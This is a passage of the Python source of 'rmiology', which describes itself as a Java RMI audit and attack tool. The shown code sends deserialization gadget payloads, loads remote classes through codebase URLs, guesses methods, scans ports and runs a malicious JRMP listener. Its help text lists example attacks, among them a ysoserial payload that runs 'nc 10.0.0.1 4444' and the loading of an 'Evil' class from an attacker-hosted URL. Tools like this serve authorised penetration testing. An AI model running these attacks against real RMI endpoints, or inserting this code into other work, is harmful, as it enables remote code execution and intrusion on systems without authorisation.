        return str(plan.signature), self._single_call(plan, result, target.host, target.port,
                                                      target.objid, opnum, method_hash, args,
                                                      expect_value=plan.signature.returns_object)

    def _component_call(self, plan, result, component, method, opnum, method_hash, args):
        spec = COMPONENTS[component]
        return self._single_call(plan, result, plan.request.host, plan.port, spec.objid, opnum,
                                 method_hash, args,
                                 expect_value=spec.method(method).signature.returns_object)

    def _op_serial(self, plan, result):
        item, frame = self._attack_call(plan, result, plan.payload)
        if frame is None:
            return
        markers = classify_return(frame)
        if not frame.is_exception:
            result.add(item, "inconclusive", "call returned normally")
        elif "filter_rejected" in markers:
            result.add(item, "failed", "payload rejected by the deserialization filter")
        elif "class_not_found" in markers:
            result.add(item, "failed", "gadget class not available on the server: %s" % frame.root_cause[1])
        elif "no_such_object" in markers:
            result.add(item, "failed", "target object does not exist")
        elif "no_such_method" in markers:
            result.add(item, "failed", "method does not exist on the target")
        elif "access_denied" in markers:
            result.add(item, "failed", "rejected before unmarshalling (AccessException)")
        else:
            result.add(item, "success", "payload was deserialized (%s)" % frame.describe())

    def _op_codebase(self, plan, result):
        class_name, url = plan.request.arguments[0], plan.request.arguments[1]
        item, frame = self._attack_call(plan, result, serialized_codebase_object(class_name, url))
        if frame is None:
            return
        markers = classify_return(frame)
        if not frame.is_exception:
            result.add(item, "inconclusive", "call returned normally")
        elif "filter_rejected" in markers:
            result.add(item, "failed", "rejected by the deserialization filter")
        elif "codebase_disabled" in markers:
            result.add(item, "failed", "RMI class loader disabled (no security manager)")
        elif "malformed_url" in markers:
            result.add(item, "failed", "codebase URL is malformed (class loading is enabled)")
        elif "class_not_found" in markers:
            result.add(item, "failed", "class %s was not loaded: %s" % (class_name, frame.root_cause[1]))
        elif markers & {"no_such_object", "no_such_method"}:
            result.add(item, "failed", frame.describe())
        else:
            result.add(item, "success", "class %s was loaded from %s (%s)" % (
                class_name, url, frame.describe()))

    def _guess_targets(self, plan, result):
        request = plan.request
        if request.target.bound_name or request.target.objid:
            return [self._single_target(plan)]
        targets = []
        for name in self._list(plan):
            try:
                targets.append(self.resolve_bound_name(plan, name))
            except LookupFailed as e:
                result.add(name, "failed", str(e))
        return dedupe_targets(targets, request.guess_duplicates)

    def _op_guess(self, plan, result):
        targets = self._guess_targets(plan, result)
        if not targets:
            result.add("guess", "inconclusive", "no remote objects to guess on")
            return
        guesser = MethodGuesser(self.config, zero_arg=plan.request.zero_arg,
                                guess_duplicates=plan.request.guess_duplicates,
                                cancel_event=self.cancel_event)
        groups = guesser.group(plan.candidates)
        if self.progress:
            self.progress.start("Guessing %d method hash(es)" % len(groups), len(groups) * len(targets))
        report = guesser.run(targets, plan.candidates,
                             progress_callback=self.progress.advance if self.progress else None)
        result.report = report
        for r in report.results:
            result.add(r.signature, r.verdict.value, r.detail, target=r.target, hash=r.method_hash)

    def _op_scan(self, plan, result):
        scanner = VulnScanner(self.config, cancel_event=self.cancel_event)
        if self.progress:
            self.progress.start("Scanning %d port(s)" % len(plan.ports), len(plan.ports) * len(plan.actions))
        report = scanner.run(plan.request.host, plan.ports, plan.actions,
                             progress_callback=self.progress.advance if self.progress else None)
        result.report = report
        for row in report.rows:
            for action, cell in row.cells.items():
                result.add(action.value, cell.verdict.value, cell.detail,
                           target="%s:%d" % (row.host, row.port))

    def _op_listen(self, plan, result):
        listener = JRMPListener(plan.request.host, plan.port, plan.payload, self.config, self.cancel_event)

        def served(addr, call):
            result.add("%s:%d" % addr, "served", "objid=%s op=%d hash=%d" % (
                call.objid, call.opnum, call.method_hash))

        try:
            listener.serve(callback=served)
        except OSError as e:
            raise ConnectError("unable to listen on %s:%d: %s" % (
                plan.request.host, plan.port, e.strerror or e)) from e


# ═══════════════════════════════════════════════════════════════════════════════
# SECTION 5: Output
# ═══════════════════════════════════════════════════════════════════════════════

STATUS_STYLES = {
    "vulnerable": "bold red",
    "success": "bold red",
    "exists": "bold green",
    "bound": "cyan",
    "not-vulnerable": "green",
    "does-not-exist": "dim",
    "failed": "yellow",
    "rejected": "yellow",
    "inconclusive": "yellow",
    "ambiguous": "yellow",
    "error": "magenta",
    "payload": "white",
}


class RichProgress:
    """Adapter between the dispatcher's progress hooks and a rich Progress bar."""

    def __init__(self, console):
        self.prog = Progress(
            SpinnerColumn(),
            TextColumn("[progress.description]{task.description}"),
            BarColumn(),
            TextColumn("[progress.percentage]{task.percentage:>3.0f}%"),
            MofNCompleteColumn(),
            TimeElapsedColumn(),
            console=console,
            transient=True,
        )
        self.task = None

    def start(self, description, total):
        if self.task is None:
            self.prog.start()
        else:
            self.prog.remove_task(self.task)
        self.task = self.prog.add_task(description, total=total)

    def advance(self, n=1):
        if self.task is not None:
            self.prog.update(self.task, advance=n)

    def stop(self):
        if self.task is not None:
            self.prog.stop()
            self.task = None


def _styled(status):
    style = STATUS_STYLES.get(status, "white")
    return "[%s]%s[/%s]" % (style, status, style)


def print_scan_table(console, report):
    table = Table(title="RMI Vulnerability Scan (%s)" % report.host, show_lines=True)
    table.add_column("Port", style="cyan", width=7)
    for action in report.actions:
        table.add_column(action.value)
    for row in report.rows:
        table.add_row(str(row.port), *[_styled(row.cells[a].verdict.value) for a in report.actions])
    console.print(table)


def print_terminal_summary(console, result, verbose=False):
    """Print a DispatchResult using rich tables."""
    if result.operation is Operation.SCAN and result.report is not None:
        print_scan_table(console, result.report)
        if not verbose:
            return

    title = "RMIology %s (%s)" % (result.operation.value, result.target)
    table = Table(title=title, show_lines=True)
    table.add_column("Target", style="cyan")
    table.add_column("Item", style="white", max_width=60)
    table.add_column("Status", width=16)
    table.add_column("Detail", style="dim", max_width=80)

    shown = 0
    for r in result.records:
        if result.operation is Operation.GUESS and not verbose and r.status == "does-not-exist":
            continue
        table.add_row(r.target, r.item, _styled(r.status), r.detail)
        shown += 1
    if shown:
        console.print(table)
    elif result.operation is Operation.GUESS:
        console.print("[-] No methods identified")

    for r in result.records:
        if r.status == "payload":
            console.print()
            console.print("[*] %s tunnel payload:" % r.item)
            console.print(r.detail, markup=False, highlight=False, soft_wrap=True)


def generate_json_export(result, output_path):
    """Export a DispatchResult as JSON."""
    data = {
        "scan_time": datetime.now().isoformat(),
        "result": result.to_dict(),
        "summary": {
            "records": len(result.records),
            "by_status": {},
        },
    }
    for r in result.records:
        data["summary"]["by_status"][r.status] = data["summary"]["by_status"].get(r.status, 0) + 1
    with open(output_path, "w", encoding="utf-8") as f:
        json.dump(data, f, indent=2, default=str)


# ═══════════════════════════════════════════════════════════════════════════════
# SECTION 6: Command Line
# ═══════════════════════════════════════════════════════════════════════════════

def build_parser():
    parser = argparse.ArgumentParser(
        prog="rmiology",
        description="Java RMI Audit & Attack Tool - enumerate, guess, scan and attack RMI endpoints",
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="""
operations:
%s

payloads (serial / listen):
  file:<path>, hex:<data> or a plain path to a serialized object;
  with --yso <jar> the positionals are <gadget> <command> instead.

scan ports:
  single port (1099), ranges and lists (1090-1099,9010) or '-' for the
  default RMI port list.

examples:
  rmiology.py 10.0.0.5 1099 enum
  rmiology.py 10.0.0.5 1099 enum filter codebase
  rmiology.py 10.0.0.5 1099 lookup --bound-name jmxrmi
  rmiology.py 10.0.0.5 1090-1099 scan filter codebase --threads 10
  rmiology.py 10.0.0.5 1099 guess --wordlist-file methods.txt
  rmiology.py 10.0.0.5 1099 call '"id"' --bound-name plain-server --signature "String execute(String cmd)"
  rmiology.py 10.0.0.5 1099 serial CommonsCollections6 'nc 10.0.0.1 4444' --component dgc --yso ysoserial.jar
  rmiology.py 10.0.0.5 1099 codebase Evil http://10.0.0.1:8000/ --component reg --reg-method lookup
  rmiology.py 10.0.0.5 1099 bind 10.0.0.1:4444 --bound-name evil --localhost-bypass
  rmiology.py 127.0.0.1 1099 unbind --bound-name evil --ssrf gopher
  rmiology.py 0.0.0.0 4444 listen CommonsCollections6 'touch /tmp/x' --yso ysoserial.jar
""" % "\n".join("  %-9s %s" % (op.value, spec.description) for op, spec in OPERATIONS.items()),
    )
    parser.add_argument("host", help="Target host (listen: address to bind)")
    parser.add_argument("port", help="Target port (scan: port specification)")
    parser.add_argument("action", nargs="?", default=Operation.ENUM.value,
                        choices=[op.value for op in Operation],
                        help="Operation to perform (default: enum)")
    parser.add_argument("extras", nargs="*", help="Operation specific positionals")

    target = parser.add_argument_group("Target")
    target.add_argument("--bound-name", help="Bound name in the registry")
    target.add_argument("--objid", help="ObjID of a remote object (number, [uid, num] or 44 hex chars)")
    target.add_argument("--component", help="Well-known component: act, dgc, reg")
    target.add_argument("--signature", help="Method signature, e.g. \"String execute(String cmd)\"")
    target.add_argument("--reg-method", default="lookup", choices=REGISTRY_METHODS,
                        help="Registry method used by serial/codebase (default: lookup)")
    target.add_argument("--dgc-method", default="clean", choices=DGC_METHODS,
                        help="DGC method used by serial/codebase (default: clean)")
    target.add_argument("--follow", action="store_true",
                        help="Follow remote references to the host they point to")
    target.add_argument("--localhost-bypass", action="store_true",
                        help="Use hash dispatch for registry calls (localhost bypass)")

    guess = parser.add_argument_group("Guessing")
    guess.add_argument("--wordlist-file", help="Wordlist with one method signature per line")
    guess.add_argument("--zero-arg", action="store_true",
                       help="Also guess methods without arguments (these get executed)")
    guess.add_argument("--guess-duplicates", action="store_true",
                       help="Report duplicate signatures and guess bound names of the same class")

    payload = parser.add_argument_group("Payloads")
    payload.add_argument("--yso", help="Path to a ysoserial jar used to build payloads")
    payload.add_argument("--java", default="java", help="Java binary used to run ysoserial")
    payload.add_argument("--argument-pos", type=int,
                         help="Parameter index that carries the payload (default: first non-primitive)")

    ssrf = parser.add_argument_group("SSRF")
    style = ssrf.add_mutually_exclusive_group()
    style.add_argument("--ssrf", choices=[s.value for s in SSRFStyle],
                       help="Print the call as an SSRF tunnel payload instead of sending it")
    style.add_argument("--gopher", action="store_true", help="Shorthand for --ssrf gopher")
    ssrf.add_argument("--relay", dest="relay_url",
                      help="POST the http tunnel body to this URL and decode the answer")
    ssrf.add_argument("--ssrf-response", help="Hex encoded answer captured from an SSRF delivery")

    conn = parser.add_argument_group("Connection")
    conn.add_argument("--ssl", action="store_true", help="Use TLS for RMI connections")
    conn.add_argument("--threads", type=int, default=DEFAULT_THREADS,
                      help="Parallel threads for scan/guess (default: %d)" % DEFAULT_THREADS)
    conn.add_argument("--timeout-connect", type=float, default=DEFAULT_CONNECT_TIMEOUT,
                      help="Connect timeout in seconds (default: %.1f)" % DEFAULT_CONNECT_TIMEOUT)
    conn.add_argument("--timeout-read", type=float, default=DEFAULT_READ_TIMEOUT,
                      help="Read timeout in seconds (default: %.1f)" % DEFAULT_READ_TIMEOUT)
    conn.add_argument("--scan-timeout-connect", type=float, default=DEFAULT_SCAN_CONNECT_TIMEOUT,
                      help="Connect timeout during scans (default: %.1f)" % DEFAULT_SCAN_CONNECT_TIMEOUT)
    conn.add_argument("--scan-timeout-read", type=float, default=DEFAULT_SCAN_READ_TIMEOUT,
                      help="Read timeout during scans (default: %.1f)" % DEFAULT_SCAN_READ_TIMEOUT)

    out = parser.add_argument_group("Output")
    out.add_argument("--json", dest="json_output", help="JSON export path")
    out.add_argument("-v", "--verbose", action="store_true", help="Verbose output")
    out.add_argument("--no-color", action="store_true", help="Disable colored output")
    out.add_argument("--stack-trace", action="store_true", help="Show Python tracebacks on errors")
    return parser


def request_from_args(args):
    wordlist = None
    if args.wordlist_file:
        try:
            with open(args.wordlist_file, "r", encoding="utf-8") as f:
                wordlist = f.read().splitlines()
        except OSError as e:
            raise ValidationError("Unable to read wordlist %s: %s" % (args.wordlist_file, e.strerror or e))
    return OperationRequest(
        operation=Operation(args.action),
        host=args.host,
        port=args.port,
        target=Target(args.bound_name, args.objid, args.component),
        arguments=list(args.extras),
        signature=args.signature,
        reg_method=args.reg_method,
        dgc_method=args.dgc_method,
        wordlist=wordlist,
        zero_arg=args.zero_arg,
        guess_duplicates=args.guess_duplicates,
        localhost_bypass=args.localhost_bypass,
        ssrf="gopher" if args.gopher else args.ssrf,
        ssrf_response=args.ssrf_response,
        relay_url=args.relay_url,
        argument_pos=args.argument_pos,
    )


def config_from_args(args):
    return RMIConfig(
        connect_timeout=args.timeout_connect,
        read_timeout=args.timeout_read,
        scan_connect_timeout=args.scan_timeout_connect,
        scan_read_timeout=args.scan_timeout_read,
        threads=args.threads,
        use_ssl=args.ssl,
        follow=args.follow,
        verbose=args.verbose,
        color=not args.no_color,
        stack_trace=args.stack_trace,
    )


def run_cancellable(dispatcher, plan, console):
    """Run the dispatcher in a worker so Ctrl+C only cancels in-flight work."""
    with ThreadPoolExecutor(max_workers=1) as executor:
        future = executor.submit(dispatcher.dispatch, plan)
        while True:
            try:
                return future.result(timeout=0.5)
            except FutureTimeout:
                continue
            except KeyboardInterrupt:
                if not dispatcher.cancel_event.is_set():
                    console.print("\n[!] Interrupted - cancelling, collected results are kept")
                    dispatcher.cancel_event.set()


def main(argv=None):
    parser = build_parser()
    args = parser.parse_args(argv)
    config = config_from_args(args)
    console = Console(no_color=not config.color, highlight=config.color)
    print_banner(console)

    logging.basicConfig(
        level=logging.DEBUG if config.verbose else logging.WARNING,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )

    progress = RichProgress(console)
    try:
        payload_provider = YsoserialPayloadProvider(args.yso, args.java) if args.yso else PayloadProvider()
        dispatcher = Dispatcher(config, payload_provider=payload_provider, progress=progress)
        request = request_from_args(args)
        plan = dispatcher.validate(request)
    except ValidationError as e:
        if config.stack_trace:
            console.print_exception()
        console.print("[-] %s" % e, markup=False)
        sys.exit(1)

    console.print("[*] Target: %s:%s" % (args.host, args.port))
    console.print("[*] Operation: %s" % plan.operation.value)
    if plan.operation in (Operation.SCAN, Operation.GUESS):
        console.print("[*] Threads: %d, Timeouts: %.1fs connect / %.1fs read" % (
            config.threads, *config.timeouts(plan.operation is Operation.SCAN)))
    if plan.operation is Operation.LISTEN:
        console.print("[*] Listening on %s:%d, press Ctrl+C to stop" % (args.host, plan.port))

    start_time = time.time()
    try:
        result = run_cancellable(dispatcher, plan, console)
    finally:
        progress.stop()
    duration = time.time() - start_time

    console.print()
    print_terminal_summary(console, result, verbose=config.verbose)

    if result.error:
        console.print("[-] %s: %s" % (result.error["kind"], result.error["message"]), markup=False)

    if args.json_output:
        console.print("[*] Generating JSON export: %s" % args.json_output)
        generate_json_export(result, args.json_output)
        console.print("[+] JSON export saved to: %s" % args.json_output)

    console.print("\n[*] %s complete in %.1fs, %d record(s)" % (
        plan.operation.value, duration, len(result.records)))


if __name__ == "__main__":
    main()
